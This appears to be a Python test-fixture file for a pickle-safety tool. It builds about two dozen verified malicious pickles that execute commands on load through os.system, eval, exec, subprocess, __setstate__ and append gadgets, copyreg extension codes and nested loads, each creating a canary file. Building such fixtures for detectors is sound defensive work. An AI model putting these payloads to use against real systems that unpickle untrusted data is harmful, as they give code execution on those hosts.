"""Pickles that run code when a real unpickler loads them; each would create a canary file.

``build(canary)`` returns a complete pickle. ``test_payloads_are_real`` loads every
payload with Python's own ``pickle`` (in a throw-away process) and checks that
the canary appears, so each one is a working exploit, not a guess.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable

from hostile.picklegen import (
    ADDITEMS,
    APPEND,
    BUILD,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    OBJ,
    REDUCE,
    call,
    dct,
    glob,
    lst,
    pickle,
    s,
    stack_glob,
    text_string,
    tup,
)


@dataclass(frozen=True)
class Payload:
    build: Callable[[str], bytes]
    names: tuple[str, ...]
    """Qualified names the inert tree shows (a call whose callable is itself a call shows neither by name)."""
    setup: str = ""
    """Python run before ``pickle.loads`` in the control process (e.g. registering an extension code)."""


def _touch(canary: str) -> str:
    return f"touch {canary}"


def _namespace() -> bytes:
    """A fresh ``argparse.Namespace()``: an instance with a ``__dict__`` and no ``__setstate__``."""
    return glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ


def _frame(body: bytes) -> bytes:
    return b"\x95" + len(body).to_bytes(8, "little") + body


PAYLOADS: dict[str, Payload] = {
    "os_system_proto0": Payload(
        lambda c: pickle(glob("os", "system") + b"(" + text_string(_touch(c)) + b"tR", proto=0), ("os.system",)),
    "os_system": Payload(lambda c: pickle(call(glob("os", "system"), s(_touch(c)))), ("os.system",)),
    "posix_system": Payload(lambda c: pickle(call(glob("posix", "system"), s(_touch(c)))), ("posix.system",)),
    "builtins_eval": Payload(
        lambda c: pickle(call(glob("builtins", "eval"), s(f"open({c!r}, 'w').close()"))), ("builtins.eval",)),
    "builtin_eval_proto0": Payload(
        lambda c: pickle(glob("__builtin__", "eval") + b"(" + text_string(f"open({c!r}, 'w').close()") + b"tR",
                         proto=0), ("builtins.eval",)),
    "builtins_exec": Payload(
        lambda c: pickle(call(glob("builtins", "exec"), s(f"import os; os.system({_touch(c)!r})"))),
        ("builtins.exec",)),
    "builtins_open": Payload(lambda c: pickle(call(glob("builtins", "open"), s(c), s("w"))), ("builtins.open",)),
    "subprocess_check_call": Payload(
        lambda c: pickle(call(glob("subprocess", "check_call"), lst(s("touch"), s(c)))),
        ("subprocess.check_call",)),
    "newobj_ex_partial_shell": Payload(
        lambda c: pickle(glob("functools", "partial") + tup(glob("subprocess", "run"), s(_touch(c)))
                         + dct((s("shell"), b"\x88")) + NEWOBJ_EX + EMPTY_TUPLE + REDUCE),
        ()),
    "importlib_getattr_chain": Payload(
        lambda c: pickle(call(call(glob("builtins", "getattr"), call(glob("importlib", "import_module"), s("os")),
                                   s("system")), s(_touch(c)))),
        ()),
    "dunder_import_chain": Payload(
        lambda c: pickle(call(call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), s("os")),
                                   s("system")), s(_touch(c)))),
        ()),
    "stack_global_proto4": Payload(
        lambda c: pickle(_frame(stack_glob("os", "system") + MEMOIZE + tup(s(_touch(c))) + REDUCE + MEMOIZE),
                         proto=4),
        ("os.system",)),
    "stack_global_dotted_proto4": Payload(
        lambda c: pickle(call(stack_glob("posixpath", "os.system"), s(_touch(c))), proto=4), ("posixpath.os.system",)),
    "inst": Payload(lambda c: pickle(b"(" + text_string(_touch(c)) + b"ios\nsystem\n", proto=0), ("os.system",)),
    "obj": Payload(lambda c: pickle(MARK + glob("os", "system") + s(_touch(c)) + OBJ), ("os.system",)),
    "newobj_build_setstate": Payload(
        lambda c: pickle(_namespace() + dct((s("__setstate__"), glob("os", "system"))) + BUILD
                         + s(_touch(c)) + BUILD),
        ("argparse.Namespace",)),
    "newobj_ex_build_setstate": Payload(
        lambda c: pickle(glob("argparse", "Namespace") + EMPTY_TUPLE + dct() + NEWOBJ_EX
                         + dct((s("__setstate__"), glob("os", "system"))) + BUILD + s(_touch(c)) + BUILD),
        ("argparse.Namespace",)),
    "build_slotstate": Payload(
        lambda c: pickle(_namespace() + tup(b"N", dct((s("__setstate__"), glob("posix", "system")))) + BUILD
                         + s(_touch(c)) + BUILD),
        ("argparse.Namespace",)),
    "append_gadget": Payload(
        lambda c: pickle(_namespace() + dct((s("append"), glob("os", "system"))) + BUILD + s(_touch(c)) + APPEND),
        ("argparse.Namespace", "os.system")),
    "additems_gadget": Payload(
        lambda c: pickle(_namespace() + dct((s("add"), glob("os", "system"))) + BUILD
                         + MARK + s(_touch(c)) + ADDITEMS, proto=4),
        ("argparse.Namespace", "os.system")),
    "ext1": Payload(lambda c: pickle(b"\x82\xf0" + tup(s(_touch(c))) + REDUCE), (),
                    setup="import copyreg; copyreg.add_extension('os', 'system', 0xf0)"),
    "ext2": Payload(lambda c: pickle(b"\x83\x01\x01" + tup(s(_touch(c))) + REDUCE), (),
                    setup="import copyreg; copyreg.add_extension('os', 'system', 0x101)"),
    "ext4": Payload(lambda c: pickle(b"\x84\x01\x00\x01\x00" + tup(s(_touch(c))) + REDUCE), (),
                    setup="import copyreg; copyreg.add_extension('os', 'system', 0x10001)"),
    "nested_pickle_loads": Payload(
        lambda c: pickle(call(glob("pickle", "loads"), _bytes(pickle(call(glob("os", "system"), s(_touch(c))))))),
        ("pickle.loads",)),
    "exec_in_dict_value": Payload(
        lambda c: pickle(dct((s("weight"), call(glob("os", "system"), s(_touch(c)))))), ("os.system",)),
    "exec_as_dict_key": Payload(
        lambda c: pickle(dct((call(glob("os", "system"), s(_touch(c))), s("x")))), ("os.system",)),
}


def _bytes(data: bytes) -> bytes:
    return b"B" + len(data).to_bytes(4, "little") + data
